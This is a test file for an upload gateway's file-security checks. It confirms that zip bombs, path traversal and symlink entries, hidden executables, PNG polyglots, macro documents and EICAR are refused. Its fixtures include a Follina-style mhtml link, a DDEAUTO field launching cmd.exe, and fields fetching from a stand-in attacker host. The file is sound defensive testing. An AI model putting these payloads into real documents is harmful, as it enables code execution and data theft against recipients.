// The file pipeline through a listening gateway: every refusal gives its exact contract code, the
// gateway keeps answering, and nothing is left behind (no row, no stored object, no upload).
import { crc32, deflateSync } from 'node:zlib';
import { describeWithRealPart, makeForm, makeSite, testDriverName } from '@intake/shared/test';
import { startGateway } from '../index.js';
import {
  EXECUTABLE_HEADS,
  complexField,
  docm,
  docxWithBody,
  docxWithExternalLink,
  docxWithStoryPart,
  lyingSizeBomb,
  nestedZipBomb,
  pptWithStorage,
  rawZip,
  sharedLocalHeaderZip,
  vbaProjectOle2,
  visioDrawing,
  xlsWorkbook,
  xlsxWithExternalWorkbook,
  docx,
  pdf,
  png,
  realVisioDrawings,
  zipOf,
} from '@intake/test-files';
import { clamdStatus, describeClamd, eicarBytes } from '../test/clamd.js';
import { footprint, send, startTestGateway, withConfig } from '../test/harness.js';
import { iso9660 } from '../test/disk-images.js';
import { buildRar, buildRar4 } from '../test/rar-writer.js';
import { sevenZipOf } from '../test/sevenzip-samples.js';
import { namesListedBy, pythonZip, zipToolsPart } from '../test/zip-tools.js';

let harness: Awaited<ReturnType<typeof startTestGateway>>;

beforeAll(async () => {
  harness = await startTestGateway();
});

afterAll(async () => {
  await harness.close();
});

function realDrawing(name: string): Buffer {
  const drawing = realVisioDrawings().find((candidate) => candidate.name === name);
  if (drawing === undefined) {
    throw new Error(`no fixture ${name}`);
  }
  return drawing.bytes;
}

async function upload(baseUrl: string, name: string, bytes: Buffer): Promise<{ status: number; code?: string }> {
  const { site, token } = await makeSite(harness.services);
  const form = await makeForm(harness.services, site);
  const body = new FormData();
  body.append('message', 'see attachment');
  body.append('attachment', new Blob([new Uint8Array(bytes)]), name);
  const response = await send(baseUrl, form.code, { apiKey: harness.services.config.apiKey, token, body });
  const answer = (await response.json()) as { code?: string };
  return { status: response.status, code: answer.code };
}

describe(`file security through the gateway on ${testDriverName()}`, () => {
  const cases: [string, string, () => Promise<Buffer> | Buffer, string][] = [
    [
      'an executable inside a zip',
      'files.zip',
      () => zipOf({ 'readme.txt': EXECUTABLE_HEADS.pe }),
      'archive_executable',
    ],
    [
      'a path traversal entry',
      'files.zip',
      () => rawZip([{ name: '../../etc/passwd', content: 'x' }]),
      'archive_path_traversal',
    ],
    [
      'an ISO image holding a program inside a zip',
      'files.zip',
      () => zipOf({ 'disk.iso': iso9660([{ name: 'notes.txt', data: EXECUTABLE_HEADS.pe }]) }),
      'archive_executable',
    ],
    [
      'a PNG with a zip holding a program appended after IEND',
      'photo.png',
      async () => Buffer.concat([png(), await zipOf({ 'run.exe': EXECUTABLE_HEADS.pe })]),
      'file_type_mismatch',
    ],
    ['a lying-size bomb', 'files.zip', () => lyingSizeBomb(64 * 1024 * 1024), 'archive_bomb'],
    ['a nested zip bomb', 'files.zip', () => nestedZipBomb(5, 4), 'archive_bomb'],
    ['an overlap bomb', 'files.zip', () => sharedLocalHeaderZip(), 'archive_bomb'],
    [
      'a truncated zip',
      'files.zip',
      async () => (await zipOf({ 'a.txt': 'hello '.repeat(500) })).subarray(0, 120),
      'archive_unreadable',
    ],
    ['a macro-enabled document named .docx', 'letter.docx', () => docm(), 'archive_macro'],
    [
      'an Excel 4.0 macro sheet in a .xls inside a zip',
      'files.zip',
      () => zipOf({ 'book.xls': xlsWorkbook([{ name: 'Auto_Open', type: 1 }]) }),
      'archive_macro',
    ],
    [
      'a .ppt inside a zip whose VBA project is zlib data without its Adler-32',
      'files.zip',
      async () => zipOf({ 'deck.ppt': pptWithStorage(vbaProjectOle2(), { withoutAdler32: true }) }),
      'archive_macro',
    ],
    [
      'a Visio 2003 drawing inside a zip whose VBA project sits in a compressed stream',
      'files.zip',
      async () => zipOf({ 'drawing.vsd': visioDrawing(vbaProjectOle2()) }),
      'archive_macro',
    ],
    [
      "Apache POI's real SimpleMacro.vsd inside a zip",
      'files.zip',
      () => zipOf({ 'SimpleMacro.vsd': realDrawing('SimpleMacro.vsd') }),
      'archive_macro',
    ],
    [
      'a Follina document (external oleObject, mhtml: target)',
      'letter.docx',
      () => docxWithExternalLink('oleObject', 'mhtml:http://attacker.invalid/x.html!x-usc:http://attacker.invalid/x'),
      'document_active_content',
    ],
    [
      'a DDEAUTO field split over runs',
      'letter.docx',
      () => docxWithBody(complexField(['DDE', 'AUTO c:\\windows\\system32\\cmd.exe "/k calc"'])),
      'document_active_content',
    ],
    [
      'an INCLUDEPICTURE field fetching a remote picture',
      'letter.docx',
      () => docxWithBody('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://attacker.invalid/p.png&quot; \\d "/>'),
      'document_active_content',
    ],
    [
      'an INCLUDETEXT field from a share, split over runs in a header',
      'letter.docx',
      () => docxWithStoryPart('header1', complexField([' INCLUDE', 'TEXT "\\\\\\\\attacker.invalid\\\\s\\\\a.docx" '])),
      'document_active_content',
    ],
    [
      'a LINK field to a remote workbook in a footer',
      'letter.docx',
      () =>
        docxWithStoryPart(
          'footer1',
          complexField([' LINK Excel.Sheet.12 "https://attacker.invalid/b.xlsx" "A1" \\a ']),
        ),
      'document_active_content',
    ],
    [
      'a workbook linked to a remote workbook',
      'figures.xlsx',
      () => xlsxWithExternalWorkbook('https://attacker.invalid/b.xlsx'),
      'document_active_content',
    ],
    [
      'an executable in a 7z',
      'files.7z',
      () => sevenZipOf([{ name: 'setup.exe', data: EXECUTABLE_HEADS.pe }]),
      'archive_executable',
    ],
    [
      'an encrypted 7z',
      'files.7z',
      () => sevenZipOf([{ name: 'a.txt', data: 'secret' }], { password: 'pw', encryptHeaders: true }),
      'archive_unreadable',
    ],
    [
      'a traversal entry in a RAR',
      'files.rar',
      () => buildRar([{ name: '../evil.txt', data: Buffer.from('x') }]),
      'archive_path_traversal',
    ],
    [
      'a Unix symlink in a RAR 4 archive',
      'files.rar',
      () =>
        buildRar4([
          { name: 'notes.txt', data: Buffer.from('x') },
          { name: 'link', symlinkTarget: '/etc/passwd' },
        ]),
      'archive_path_traversal',
    ],
  ];

  it.each(cases)('refuses %s with its code and leaves nothing behind', async (_label, name, build, code) => {
    const before = await footprint(harness.services);
    expect(await upload(harness.gateway.url, name, await build())).toEqual({ status: 400, code });
    expect(await footprint(harness.services)).toEqual(before);
  });

  it('accepts clean documents and archives after all those refusals', async () => {
    expect((await upload(harness.gateway.url, 'report.docx', await docx())).status).toBe(201);
    expect(
      (await upload(harness.gateway.url, 'bundle.zip', await zipOf({ 'a.txt': 'hello', 'b/c.pdf': pdf() }))).status,
    ).toBe(201);
    expect(
      (await upload(harness.gateway.url, 'bundle.7z', await sevenZipOf([{ name: 'a.txt', data: 'hi' }]))).status,
    ).toBe(201);
  });

  it('accepts real clean Visio 2000 drawings inside a zip, one with the VBA project Visio saves on its own', async () => {
    for (const name of ['Visio6TextFieldsWithUnits.vsd', 'Visio6PlanWithDimensions.vsd']) {
      expect(
        (await upload(harness.gateway.url, 'drawings.zip', await zipOf({ [name]: realDrawing(name) }))).status,
      ).toBe(201);
    }
  });
});

const clamd = await clamdStatus();

describeClamd(clamd, `ClamAV stage through the gateway on ${testDriverName()}`, (found) => {
  const clamavEnv = (target: { socket?: string; host?: string; port?: number }) => ({
    enabled: true,
    socket: target.socket,
    host: target.host,
    port: target.port,
  });

  it('refuses EICAR as text and inside a nested zip with file_infected, and accepts a clean file', async () => {
    const scanning = await startGateway(
      withConfig(harness.services, (config) => ({ ...config, clamav: clamavEnv(found.target) })),
    );
    try {
      const before = await footprint(harness.services);
      expect(await upload(scanning.url, 'eicar.txt', eicarBytes())).toEqual({ status: 400, code: 'file_infected' });
      const inner = await zipOf({ 'eicar.txt': eicarBytes() });
      expect(await upload(scanning.url, 'nested.zip', await zipOf({ 'inner.zip': inner }))).toEqual({
        status: 400,
        code: 'file_infected',
      });
      expect(await footprint(harness.services)).toEqual(before);
      expect((await upload(scanning.url, 'clean.pdf', pdf())).status).toBe(201);
    } finally {
      await scanning.close();
    }
  });

  it('fails closed with 503 scanner_unavailable when clamd cannot be reached, storing nothing', async () => {
    const unreachable = { host: '127.0.0.1', port: 1 };
    const scanning = await startGateway(
      withConfig(harness.services, (config) => ({ ...config, clamav: clamavEnv(unreachable) })),
    );
    try {
      const before = await footprint(harness.services);
      expect(await upload(scanning.url, 'clean.pdf', pdf())).toEqual({ status: 503, code: 'scanner_unavailable' });
      expect(await footprint(harness.services)).toEqual(before);
    } finally {
      await scanning.close();
    }
  });
});

describe(`checks taken as a big upload streams in, through the gateway on ${testDriverName()}`, () => {
  // Files past the 128 KiB read whole are checked in the upload's single pass (streamed-checks.ts):
  // the network cuts them into chunks anywhere, so a signature or a character may span two.
  const padding = (bytes: number) => Buffer.alloc(bytes, 0x20);

  it('refuses a RAR hidden in the middle of a big image, and invalid UTF-8 deep in a big text', async () => {
    const rar = buildRar([{ name: 'run.exe', data: EXECUTABLE_HEADS.pe }]);
    const polyglot = Buffer.concat([png(), padding(300_000), rar, padding(300_000)]);
    expect(await upload(harness.gateway.url, 'photo.png', polyglot)).toEqual({
      status: 400,
      code: 'file_type_mismatch',
    });
    const broken = Buffer.concat([Buffer.from('a'.repeat(400_000)), Buffer.from([0xc3]), Buffer.from('b'.repeat(10))]);
    expect(await upload(harness.gateway.url, 'notes.txt', broken)).toEqual({ status: 400, code: 'file_type_mismatch' });
  });

  it('accepts a big clean image and a big text full of characters of every width', async () => {
    expect((await upload(harness.gateway.url, 'photo.png', Buffer.concat([png(), padding(600_000)]))).status).toBe(201);
    const text = Buffer.from('é€👋a\n'.repeat(60_000), 'utf8');
    expect((await upload(harness.gateway.url, 'notes.txt', text)).status).toBe(201);
  });
});

describeWithRealPart(
  `a zip appended to an image, then more bytes, through the gateway on ${testDriverName()}`,
  zipToolsPart(),
  () => {
    it("refuses a PNG + Python's zip + 20 bytes (issue 32), and stores a PNG whose pixels spell PK\\5\\6", async () => {
      const program = { 'run.exe': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300)]) };
      const polyglot = Buffer.concat([png(), pythonZip(program), Buffer.alloc(20, 0x5a)]);
      expect(await namesListedBy(polyglot)).toEqual({ python: ['run.exe'], unzip: ['run.exe'], sevenZip: ['run.exe'] });
      const before = await footprint(harness.services);
      expect(await upload(harness.gateway.url, 'photo.png', polyglot)).toEqual({
        status: 400,
        code: 'file_type_mismatch',
      });
      expect(await footprint(harness.services)).toEqual(before);
      const pixels = Buffer.concat([
        Buffer.alloc(300_000, 0x80),
        Buffer.from('PK\x05\x06\0\0\0\0\x01\0\x01\0', 'latin1'),
      ]);
      expect((await upload(harness.gateway.url, 'photo.png', storedPng(pixels))).status).toBe(201);
    });
  },
);

/** A one-row grey PNG of `pixels`, deflated at level 0 so they show verbatim in its IDAT. */
function storedPng(pixels: Buffer): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const head = Buffer.alloc(8);
    head.writeUInt32BE(data.length);
    head.write(type, 4, 'latin1');
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])));
    return Buffer.concat([head, data, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(pixels.length, 0);
  header.writeUInt32BE(1, 4);
  header[8] = 8;
  return Buffer.concat([
    png().subarray(0, 8),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.concat([Buffer.from([0]), pixels]), { level: 0 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
